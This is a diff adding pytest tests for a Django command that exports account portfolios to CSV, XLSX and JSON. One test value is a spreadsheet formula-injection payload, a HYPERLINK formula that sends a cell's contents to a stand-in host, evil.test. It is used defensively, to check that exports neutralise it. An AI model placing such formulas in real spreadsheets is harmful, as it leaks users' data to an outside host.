@@ -3,8 +3,9 @@ import json
 from datetime import date
 from io import StringIO
 
+import openpyxl
 import pytest
-from django.core.management import call_command
+from django.core.management import CommandError, call_command
 
 from keyfolio.accounts.models import Account
 from keyfolio.assessments.services import ScoreInput, assessment_create
@@ -84,3 +85,52 @@ def test_it_runs_a_constant_number_of_queries(world, django_assert_num_queries, 
     with django_assert_num_queries(2):
         records = json.loads(portfolio("--workspace", "acme"))
     assert len(records) == size + 1
+
+
+HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
+
+
+def test_it_writes_a_hostile_account_name_as_text_in_csv(accounts):
+    Account.objects.create(workspace=accounts.workspace, name=HOSTILE)
+    output = portfolio("--workspace", "acme", "--format", "csv")
+    rows = list(csv.reader(StringIO(output)))
+    assert rows[1][0] == "'" + HOSTILE
+    assert '\n"=HYPERLINK' not in output  # No cell starts with the formula.
+
+
+def test_it_writes_xlsx_to_a_file_with_numbers_and_dates_as_cells(accounts, tmp_path):
+    Account.objects.create(workspace=accounts.workspace, name=HOSTILE)
+    path = tmp_path / "portfolio.xlsx"
+    out = portfolio("--workspace", "acme", "--format", "xlsx", "--output", str(path))
+
+    assert "Wrote 3 rows" in out
+    sheet = openpyxl.load_workbook(path).worksheets[0]
+    assert [cell.value for cell in sheet[1]] == KEYS
+    hostile, northwind, unassessed = list(sheet.iter_rows(min_row=2))
+    assert (hostile[0].value, hostile[0].data_type) == ("'" + HOSTILE, "s")
+    assert northwind[0].value == "Northwind"
+    assert northwind[1].is_date and northwind[1].value.date() == date(2024, 5, 6)
+    assert northwind[2].data_type == "n" and northwind[2].value == pytest.approx(211 / 3)
+    assert northwind[3].value == 42.5
+    assert northwind[4].value == "target"
+    assert [cell.value for cell in unassessed] == ["Unassessed Ltd", *[None] * 5]
+
+
+def test_it_writes_csv_and_json_to_a_file_when_asked(accounts, tmp_path):
+    portfolio("--workspace", "acme", "--format", "csv", "--output", str(tmp_path / "p.csv"))
+    portfolio("--workspace", "acme", "--output", str(tmp_path / "p.json"))
+
+    rows = list(csv.reader((tmp_path / "p.csv").open(encoding="utf-8")))
+    assert [row[0] for row in rows] == ["account", "Northwind", "Unassessed Ltd"]
+    records = json.loads((tmp_path / "p.json").read_text(encoding="utf-8"))
+    assert records[0]["assessed_on"] == "2024-05-06"
+
+
+def test_it_refuses_xlsx_without_a_file(accounts):
+    with pytest.raises(CommandError, match="--output FILE"):
+        portfolio("--workspace", "acme", "--format", "xlsx")
+
+
+def test_it_says_when_it_cannot_write_the_file(accounts, tmp_path):
+    with pytest.raises(CommandError, match="Cannot write"):
+        portfolio("--workspace", "acme", "--output", str(tmp_path / "missing" / "p.csv"))
